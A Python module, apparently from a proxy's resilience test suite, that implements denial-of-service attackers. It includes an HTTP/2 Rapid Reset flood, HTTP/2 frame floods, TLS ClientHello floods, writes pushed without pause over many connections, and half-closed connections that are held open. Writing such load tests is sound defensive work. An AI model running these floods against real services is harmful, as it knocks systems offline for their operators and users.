# SPDX-License-Identifier: MIT
"""What the attackers send, each in a process of its own: see Attacker in attack_stage.py.

The one idea: `f(deadline, address, ...)` does one thing until the clock says `deadline`, comes back
from whatever the proxy does to it, and returns what it counted.
"""
import contextlib
import selectors
import socket
import ssl
import time

from lib import h2_frames
from lib.certificates import client_context

TRY_S = 1.0


def connect(address, timeout=TRY_S, receive_buffer=0):
    """`receive_buffer` has to be small before the connection is made, or it is no limit."""
    made = socket.socket()
    made.settimeout(timeout)
    if receive_buffer:
        made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    made.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    made.connect(address)
    return made


def request(path, host, *fields):
    return "\r\n".join([f"GET {path} HTTP/1.1", f"Host: {host}", *fields, "", ""]).encode("latin-1")


def head_of(connection):
    """Reads up to the end of a head; what came is the rest of a response's too. b"" at an end."""
    received = b""
    while b"\r\n\r\n" not in received:
        piece = connection.recv(65536)
        if not piece:
            return b""
        received += piece
    return received


def status_of(address, sent, timeout=TRY_S):
    """The status that one request on a connection of its own is answered with; 0: none."""
    with contextlib.suppress(OSError, ValueError, IndexError):
        with connect(address, timeout) as connection:
            connection.sendall(sent)
            return int(head_of(connection).split()[1])
    return 0


def one_after_the_other(deadline, address, sent):
    """The same request again and again, on kept connections where the proxy keeps them."""
    count, connection = 0, None
    while time.monotonic() < deadline:
        try:
            connection = connection or connect(address)
            connection.sendall(sent)
            answer = head_of(connection)
        except OSError:
            answer = b""
        count += 1
        if not answer or b"connection: close" in answer.lower():
            if connection:
                connection.close()
            connection = None
    return {"requests": count}


def without_a_pause(deadline, address, connections, opening, piece):
    """On each connection `opening` and then `piece` for ever, as fast as it is taken; what comes
    back is read and dropped. Returns how many pieces went out."""
    sent = 0.0
    selector = selectors.DefaultSelector()

    def begin():
        with contextlib.suppress(OSError):
            made = connect(address)
            made.setblocking(False)
            selector.register(made, selectors.EVENT_READ | selectors.EVENT_WRITE,
                              [memoryview(opening + piece)])

    for _ in range(connections):
        begin()
    while time.monotonic() < deadline:
        ready = selector.select(0.1)
        if not selector.get_map():
            begin()
        for key, events in ready:
            try:
                if events & selectors.EVENT_READ and not key.fileobj.recv(65536):
                    raise ConnectionError("the proxy has left")
                if events & selectors.EVENT_WRITE:
                    size = key.fileobj.send(key.data[0])
                    sent += size / len(piece)
                    key.data[0] = key.data[0][size:] or memoryview(piece)
            except BlockingIOError:
                continue
            except OSError:
                selector.unregister(key.fileobj)
                key.fileobj.close()
                begin()
    return {"pieces": sent}


def client_hello():
    """The first flight of a client of TLS, as bytes."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        client_context().wrap_bio(incoming, outgoing).do_handshake()
    return outgoing.read()


def hello_flood(deadline, address, width):
    """Connections that each send a ClientHello and leave without a word when they are answered, so
    many of them at a time."""
    hello, count = client_hello(), 0
    while time.monotonic() < deadline:
        batch = []
        with contextlib.suppress(OSError):
            for _ in range(width):
                batch.append(connect(address))
                batch[-1].sendall(hello)
                count += 1
        for one in batch:
            with contextlib.suppress(OSError):
                one.recv(1)
            one.close()
    return {"hellos": count}


def rapid_reset(deadline, address, host, batch):
    """Requests over HTTP/2 that are reset in the same packet, a batch of them at a time."""
    count = 0
    while time.monotonic() < deadline:
        with contextlib.suppress(OSError), connect(address) as connection:
            connection.sendall(h2_frames.PREFACE + h2_frames.settings())
            stream = 1
            while time.monotonic() < deadline:
                sent = b"".join(h2_frames.get(one, host) + h2_frames.reset(one)
                                for one in range(stream, stream + 2 * batch, 2))
                connection.sendall(sent)
                stream += 2 * batch
                count += batch
                with contextlib.suppress(BlockingIOError):
                    connection.setblocking(False)
                    while connection.recv(65536):
                        pass
                    break  # the proxy has ended it
                connection.settimeout(TRY_S)
    return {"streams": count}


def frame_flood(deadline, address, frames):
    """A connection of HTTP/2 on which the same frames come without a pause, and again when it was
    ended."""
    return without_a_pause(deadline, address, 1, h2_frames.PREFACE + h2_frames.settings(), frames)


def leave_at_once(deadline, address, host, count):
    """Requests whose clients end the connection right behind them (FIN). Their sockets are kept, so
    that the proxy gets no reset."""
    kept, sent = [], 0
    while sent < count and time.monotonic() < deadline:
        with contextlib.suppress(OSError):
            made = connect(address)
            made.sendall(request("/left", host))
            made.shutdown(socket.SHUT_WR)
            kept.append(made)
            sent += 1
    time.sleep(max(0, deadline - time.monotonic()))
    return {"requests": sent}
